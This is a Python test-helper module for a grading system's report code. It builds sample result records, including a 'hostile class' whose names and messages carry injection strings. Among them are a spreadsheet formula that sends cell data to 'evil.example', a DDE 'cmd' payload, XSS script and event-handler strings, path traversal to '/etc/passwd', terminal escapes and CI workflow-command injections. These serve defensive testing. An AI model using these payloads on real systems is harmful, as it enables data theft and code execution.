"""What the tests of reports share: results as the batch grader writes them, friendly and hostile."""

from __future__ import annotations

import json
from collections.abc import Iterable
from pathlib import Path
from typing import Any

from grader.reports.results import Results, gather, parse_submission

SECRET = "7f3a9SECRET"
SEED = 918273645546372819
IDS = ("ch01_numbers/ex01_double", "ch01_numbers/ex02_triple", "ch02_lists/ex01_double_all")

# Names of submissions, and texts, that mean harm somewhere.
HOSTILE = {
    "path": "../../x",
    "absolute": "/etc/passwd",
    "windows": "..\\..\\con.txt:stream",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "formula in quotes": '"=1+1"',
    "formula after a semicolon": 'ann;=cmd|"/c calc"!A0',
    "formula on a second line": "ann\n@SUM(1+1)",
    "formula behind a tab": "\t-2+3",
    "formula behind a return": "\r+1",
    "wide formula": "\uff1d1+1",
    "markup": "<script>window.hacked=1</script><img src=x onerror=window.hacked=1>",
    "attribute": '" onmouseover="window.hacked=1" x="',
    "comment": "--><!-- </style></title></textarea><svg onload=window.hacked=1>",
    "cdata": "]]> <![CDATA[ &amp; &#0;",
    "null": "a\0b",
    "bidi": "\u202egnp.exe\u2066",
    "invisible": "a\u200b\u200db\ufeff",
    "surrogate": "lone \ud800 half",
    "noncharacter": "\ufffe\uffff",
    "separators": "a\u2028b\u2029c\x85d",
    "terminal": "\x1b]0;title\x07\x1b[2J",
    "workflow command": "::error::no\n  ::add-mask::x\n##[group]x",
    "zalgo": "Z" + "\u0336\u0349" * 40,
    "long": "long " * 2000,
    "quotes": "'`\"${7*7}{{7*7}}",
}


_STARTS = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def starts_formula(cell: str) -> bool:
    """Tell whether a spreadsheet program could read a cell as a formula, whatever it strips first."""
    return cell.lstrip(' \t\r\n\v\f\xa0\u3000"').startswith(_STARTS)


def check(name: str = "check_values", verdict: str = "pass", **fields: Any) -> dict[str, Any]:
    """Return a check as results.jsonl has it."""
    texts = {"message": "", "counterexample": "", "diagnosis": "", "sentence": f"The sentence of {name}."}
    return {"name": name, "verdict": verdict, **texts, **fields}


def failing(name: str = "check_values", verdict: str = "fail", **fields: Any) -> dict[str, Any]:
    """Return a check with everything that a failure may have."""
    texts = {
        "message": "got[1] == 3.0, but should be 4.0",
        "counterexample": "double(np.array([1.0, 2.0]))",
        "got": "np.array([2.0, 3.0])",
        "expected": "np.array([2.0, 4.0])",
        "table": "     got  expected\n[0]  2.0       2.0\n[1]  3.0       4.0  <-- worst",
        "diagnosis": "You add one where two is to be multiplied.",
        "output": "here I am",
    }
    return check(name, verdict, **{**texts, **fields})


def exercise(place: int = 0, verdict: str = "pass", *checks: dict[str, Any], **fields: Any) -> dict[str, Any]:
    """Return an exercise; without checks it has one with the same verdict."""
    found = checks or ((check() if verdict == "pass" else failing(verdict=verdict)),)
    worth = place + 1
    points = worth if verdict == "pass" else 0
    return {
        "id": IDS[place],
        "verdict": verdict,
        "points": points,
        "max_points": worth,
        "checks": [*found],
        **fields,
    }


def record(name: str, *exercises: dict[str, Any], **fields: Any) -> dict[str, Any]:
    """Return a line of results.jsonl."""
    return {
        "submission": name,
        "sha256": "ab" * 32,
        "seed": SEED,
        "exercises": [*exercises],
        "points": sum(entry["points"] for entry in exercises),
        "max_points": sum(entry["max_points"] for entry in exercises),
        **fields,
    }


def friendly_class() -> list[dict[str, Any]]:
    """Return three students: one who has all, one in the middle of it, one whose archive is damaged."""
    ann = record("ann", exercise(0), exercise(1), exercise(2), seconds=1.5)
    ben = record(
        "ben",
        exercise(0, "pass", seconds=0.25),
        exercise(
            1, "fail", check(), failing("check_more"), check("check_rest", "skipped", message="not run")
        ),
        exercise(2, "not_started", check(verdict="not_started", message="the file is as it was handed out")),
        notes=["left out ben.ipynb: it defines no name of any exercise"],
    )
    eve = record("eve", error="the archive is damaged", max_points=6)
    return [ann, ben, eve]


def hostile_class() -> list[dict[str, Any]]:
    """Return a student for each hostile text, with that text wherever a student's text may land."""
    return [
        record(
            text,
            exercise(
                0,
                "fail",
                failing(
                    **dict.fromkeys(("message", "counterexample", "got", "expected", "table", "output"), text)
                ),
            ),
            exercise(1, "infra", failing(verdict="infra", message=text)),
            notes=[text],
            error=text,
        )
        for text in HOSTILE.values()
    ]


def class_of(records: Iterable[dict[str, Any]]) -> Results:
    """Return records as read."""
    return gather(parse_submission(json.dumps(entry)) for entry in records)


def write_results(path: Path, records: Iterable[dict[str, Any]]) -> Path:
    """Write a results file."""
    path.write_text("".join(json.dumps(entry) + "\n" for entry in records), encoding="utf-8")
    return path
